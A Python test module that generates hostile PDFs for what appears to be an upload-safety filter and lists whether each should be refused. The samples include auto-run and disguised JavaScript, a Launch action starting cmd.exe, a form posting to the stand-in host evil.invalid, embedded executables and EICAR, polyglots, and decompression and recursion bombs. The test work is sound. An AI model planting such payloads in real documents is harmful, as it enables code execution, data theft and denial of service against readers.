"""PDFs that act, hide, explode or lie."""

from __future__ import annotations

import io
import itertools
import zlib
from collections.abc import Iterator

from PIL import Image

from tests.trust.hostile import CANARY, EICAR, REFUSED, SAFE, SCANNED, Case
from tests.trust.hostile.lies import packed


def pdf(*objects: bytes, catalog: bytes = b"", page: bytes = b"", trailer: bytes = b"", pages: int = 1) -> bytes:
    """A PDF of our own making. ``objects`` are numbered from 10 on."""
    kids = b" ".join(f"{100 + number} 0 R".encode() for number in range(pages))
    parts = {
        1: b"<</Type/Catalog/Pages 2 0 R" + catalog + b">>",
        2: b"<</Type/Pages/Kids[" + kids + b"]/Count " + str(pages).encode() + b">>",
    }
    parts |= {
        100 + number: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]" + page + b">>" for number in range(pages)
    }
    parts |= {10 + number: body for number, body in enumerate(objects)}
    written, place, places = [b"%PDF-1.7\n"], 9, {}
    for number, body in sorted(parts.items()):
        places[number] = place
        written.append(f"{number} 0 obj\n".encode() + body + b"\nendobj\n")
        place += len(written[-1])
    written.append(b"xref\n0 1\n0000000000 65535 f \n")
    written += [f"{number} 1\n{at:010d} 00000 n \n".encode() for number, at in sorted(places.items())]
    head = f"trailer<</Root 1 0 R/Size {max(places) + 1}".encode() + trailer
    return b"".join(written) + head + f">>\nstartxref\n{place}\n%%EOF\n".encode()


def stream(data: bytes, told: bytes = b"", *, twice: bool = False) -> bytes:
    """A packed stream."""
    body = zlib.compress(data, 9)
    coding = b"/FlateDecode"
    if twice:
        body, coding = zlib.compress(body, 9), b"[/FlateDecode /FlateDecode]"
    head = b"<<" + told + b"/Filter" + coding + b"/Length " + str(len(body)).encode() + b">>\nstream\n"
    return head + body + b"\nendstream"


def _hidden(told: bytes, kind: bytes = b"/ObjStm") -> bytes:
    """Objects in an object stream, where a search of the bytes does not see them."""
    return stream(b"50 0 " + told, b"/Type" + kind + b"/N 1/First 5")


SCRIPT = b"<</S/JavaScript/JS(app.alert(1))>>"
ACTS: dict[str, bytes] = {
    "script": SCRIPT,
    "script in a disguised name": b"<</S/J#61vaScript/JS(app.alert(1))>>",
    "script with every letter disguised": b"<</S/#4a#61#76#61#53#63#72#69#70#74/JS(x)>>",
    "program": b"<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>",
    "form that sends itself": b"<</S/SubmitForm/F<</FS/URL/F(http://evil.invalid/)>>>>",
    "data from elsewhere": b"<</S/ImportData/F(x.fdf)>>",
    "film that plays": b"<</S/Rendition/OP 0/R 99 0 R>>",
}
PLACES: dict[str, bytes] = {
    "when it opens": b"/OpenAction 10 0 R",
    "in a list of names": b"/Names<</JavaScript<</Names[(a)10 0 R]>>>>",
    "when it closes": b"/AA<</WC 10 0 R>>",
}


def _acting() -> Iterator[Case]:
    for (what, action), (where, catalog) in itertools.product(ACTS.items(), PLACES.items()):
        yield Case(f"PDF with a {what} {where}", "a.pdf", pdf(action, catalog=catalog), REFUSED)
    for what, action in ACTS.items():
        yield Case(f"PDF with a {what} in an object stream", "a.pdf", pdf(_hidden(action)), REFUSED)
        yield Case(f"PDF with a {what} on a page", "a.pdf", pdf(action, page=b"/AA<</O 10 0 R>>"), REFUSED)
    for coding in (b"/ASCIIHexDecode", b"/ASCII85Decode", b"/LZWDecode", b"/RunLengthDecode"):
        body = b"<</Type/ObjStm/N 1/First 5/Filter" + coding + b"/Length 4>>\nstream\nabcd\nendstream"
        yield Case(f"PDF with objects in {coding.decode()}", "a.pdf", pdf(body), REFUSED)
    yield Case("PDF with an XFA form", "a.pdf", pdf(stream(b"<xdp/>"), catalog=b"/AcroForm<</XFA 10 0 R>>"), REFUSED)
    yield Case("PDF with a rich film", "a.pdf", pdf(b"<</Type/Annot/Subtype/RichMedia>>"), REFUSED)


def _hiding() -> Iterator[Case]:
    for label, inside in (("program", b"MZ" + bytes(200)), ("PDF", pdf()), ("EICAR", EICAR), ("ZIP", packed(a=b"b"))):
        embedded = stream(inside, b"/Type/EmbeddedFile")
        files = b"/Names<</EmbeddedFiles<</Names[(a)<</F(a)/EF<</F 10 0 R>>>>]>>>>"
        yield Case(f"PDF with a {label} attached", "a.pdf", pdf(embedded, catalog=files), REFUSED)
        disguised = files.replace(b"EmbeddedFiles", b"Embedded#46iles")
        body = embedded.replace(b"EmbeddedFile", b"#45mbeddedFile")
        yield Case(f"PDF with a {label} in disguise", "a.pdf", pdf(body, catalog=disguised), REFUSED)
    yield Case("PDF with EICAR in a stream", "a.pdf", pdf(stream(EICAR)), SCANNED)
    author = f"/Info<</Author({CANARY})/Title({CANARY})/Creator({CANARY})>>".encode()
    yield Case("PDF with an author", "a.pdf", pdf(trailer=author), SAFE)
    xmp = f"<x:xmpmeta>{CANARY}</x:xmpmeta>".encode()
    told = b"<</Type/Metadata/Subtype/XML/Length " + str(len(xmp)).encode() + b">>\nstream\n" + xmp + b"\nendstream"
    yield Case("PDF with XMP", "a.pdf", pdf(told, catalog=b"/Metadata 10 0 R"), SAFE)
    yield Case("PDF with a password", "a.pdf", pdf(trailer=b"/Encrypt 10 0 R"), REFUSED, frozenset({"password"}))
    yield Case("PDF that is an archive", "a.pdf", pdf() + packed(evil__exe=b"MZ"), REFUSED)
    yield Case("PDF that is a RAR", "a.pdf", pdf() + b"Rar!\x1a\x07\x01\x00" + bytes(90), REFUSED)
    yield Case("PDF with a long tail", "a.pdf", pdf() + CANARY.encode() * 200, REFUSED)
    yield Case("PDF behind a page", "a.pdf", b"<html>" + pdf(), REFUSED)
    yield Case("PDF behind a picture", "a.pdf", b"GIF89a" + pdf(), REFUSED)


def _exploding() -> Iterator[Case]:
    codes = frozenset({"explodes", "damaged", "too_slow", "too_many_pages", "too_many_pixels", "cannot_be_shown"})
    huge = stream(bytes(120 * 2**20))
    yield Case("PDF with a stream of 120 MB", "a.pdf", pdf(huge), REFUSED, codes)
    yield Case("PDF with ten of 60 MB", "a.pdf", pdf(*[stream(bytes(60 * 2**20))] * 10), REFUSED, codes)
    yield Case("PDF packed twice", "a.pdf", pdf(stream(bytes(50 * 2**20), twice=True)), REFUSED, codes)
    for side in (30_000, 60_000):
        body = stream(
            bytes(1_000_000),
            f"/Subtype/Image/Width {side}/Height {side}/BitsPerComponent 8/ColorSpace/DeviceGray".encode(),
        )
        draw = stream(b"200 0 0 200 0 0 cm /I Do")
        page = b"/Resources<</XObject<</I 10 0 R>>>>/Contents 11 0 R"
        yield Case(f"PDF with a picture of {side} squared", "a.pdf", pdf(body, draw, page=page), SAFE)
    yield Case("PDF of 201 pages", "a.pdf", pdf(pages=201), REFUSED, frozenset({"too_many_pages"}))
    yield Case("PDF of ten thousand pages", "a.pdf", pdf(pages=10_000), REFUSED, codes)
    yield Case("PDF of a quarter of a million objects", "a.pdf", pdf(*[b"null"] * 250_000), REFUSED, codes)
    yield Case("PDF without pages", "a.pdf", pdf(pages=0), REFUSED, codes)
    big = pdf().replace(b"[0 0 200 200]", b"[0 0 900000 900000]")
    yield Case("PDF of a page as large as a field", "a.pdf", big, REFUSED, codes)
    yield Case("PDF of a page of no size", "a.pdf", pdf().replace(b"[0 0 200 200]", b"[0 0 0 0]"), SAFE)
    loop = pdf(b"<</Type/Pages/Kids[2 0 R]/Count 1/Parent 2 0 R>>").replace(b"/Kids[100 0 R]", b"/Kids[10 0 R]")
    yield Case("PDF whose pages go round", "a.pdf", loop, REFUSED, codes)
    form = stream(b"/F Do /F Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F 10 0 R>>>>")
    drawn = b"/Resources<</XObject<</F 10 0 R>>>>/Contents 11 0 R"
    yield Case("PDF that draws itself", "a.pdf", pdf(form, stream(b"/F Do"), page=drawn), SAFE)
    chain = [
        stream(
            f"/F{n + 1} Do ".encode() * 10,
            f"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F{n + 1} {11 + n} 0 R>>>>".encode(),
        )
        for n in range(9)
    ]
    last = stream(b"0 0 1 1 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]")
    page = b"/Resources<</XObject<</F0 10 0 R>>>>/Contents 20 0 R"
    yield Case(
        "PDF that draws a thousand million times", "a.pdf", pdf(*chain, last, stream(b"/F0 Do"), page=page), SAFE
    )
    yield Case(
        "PDF that opens a million brackets", "a.pdf", pdf(stream(b"[" * 1_000_000), page=b"/Contents 10 0 R"), SAFE
    )
    nested = b"<<" + b"/A<<" * 100_000 + b">>" * 100_000 + b">>"
    yield Case("PDF of a hundred thousand dictionaries, one in the other", "a.pdf", pdf(nested), SAFE)
    function = stream(b"{" * 50_000 + b"}" * 50_000, b"/FunctionType 4/Domain[0 1]/Range[0 1]")
    shade = b"/Resources<</Shading<</S<</ShadingType 1/ColorSpace/DeviceGray/Function 10 0 R>>>>>>/Contents 11 0 R"
    yield Case(
        "PDF with a function of fifty thousand brackets", "a.pdf", pdf(function, stream(b"/S sh"), page=shade), SAFE
    )


def _broken() -> Iterator[Case]:
    out = io.BytesIO()
    Image.linear_gradient("L").save(out, "PDF")
    honest = out.getvalue()
    yield Case("PDF of nothing", "a.pdf", b"%PDF-1.7\n%%EOF\n", REFUSED)
    yield Case("PDF without an end", "a.pdf", honest[: len(honest) // 2], REFUSED)
    for step in (5, 17, 41, 97):
        bent = bytearray(honest)
        for place in range(20, len(bent) - 40, step * 3):
            bent[place] ^= 0x5A
        yield Case(f"PDF bent every {step * 3} bytes", "a.pdf", bytes(bent), SAFE)
    for version in (b"%PDF-9.9", b"%PDF-0.0", b"%PDF-\xff\xff"):
        yield Case(f"PDF of version {version!r}", "a.pdf", honest.replace(honest[:8], version, 1), SAFE)


def cases() -> Iterator[Case]:
    """Every one of them."""
    yield from _acting()
    yield from _hiding()
    yield from _exploding()
    yield from _broken()
